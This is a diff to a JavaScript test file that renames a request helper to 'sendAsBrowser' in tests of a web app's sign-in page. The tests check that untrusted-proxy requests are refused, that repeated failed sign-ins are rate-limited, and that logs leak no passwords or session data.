-    const { status, text } = await ask(site, '/requests/sign-in', { headers });
+    const { status, text } = await sendAsBrowser(site, '/requests/sign-in', { headers });
     expect([status, text]).toEqual([403, expect.stringContaining('TRUSTED_PROXY')]);
     const plain = await startWithPage({ siteUrl: 'http://www.peak.test', trustedProxies: '127.0.0.1' });
-    expect((await ask(plain, '/requests/sign-in', { headers })).status).toBe(403);
+    expect((await sendAsBrowser(plain, '/requests/sign-in', { headers })).status).toBe(403);
   });
 
   test('logs contain no password, session or visitor', async () => {
     const { site, cookie } = await startSignedIn();
     const id = await addRequest(site);
     for (let attempt = 0; attempt < 12; attempt += 1) await signInWith(site, `wrong ${requestsPassword}`);
-    await ask(site, '/requests?search=Dana', { cookie });
-    await ask(site, `/requests/${id}/note`, { cookie, form: { note: 'Booked for Tuesday' } });
-    await ask(site, `/requests/${id}/delete`, { cookie, form: {} });
+    await sendAsBrowser(site, '/requests?search=Dana', { cookie });
+    await sendAsBrowser(site, `/requests/${id}/note`, { cookie, form: { note: 'Booked for Tuesday' } });
+    await sendAsBrowser(site, `/requests/${id}/delete`, { cookie, form: {} });
     const log = site.printed.join('');
     expect(log).toContain('Somebody signed in to /requests.');
     expect(log.match(/Too many sign-ins/g)).toHaveLength(1);
